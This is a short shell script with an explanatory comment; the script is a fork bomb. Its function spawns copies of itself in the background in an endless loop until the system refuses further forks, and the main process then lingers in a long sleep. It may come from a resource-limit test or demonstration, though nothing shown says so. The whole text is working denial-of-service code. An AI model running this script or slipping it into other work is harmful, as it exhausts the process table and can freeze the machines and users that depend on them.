# Every process keeps forking until a fork is refused; the main process lingers.
bomb() { while :; do bomb & done; }
bomb &
exec sleep 1000000
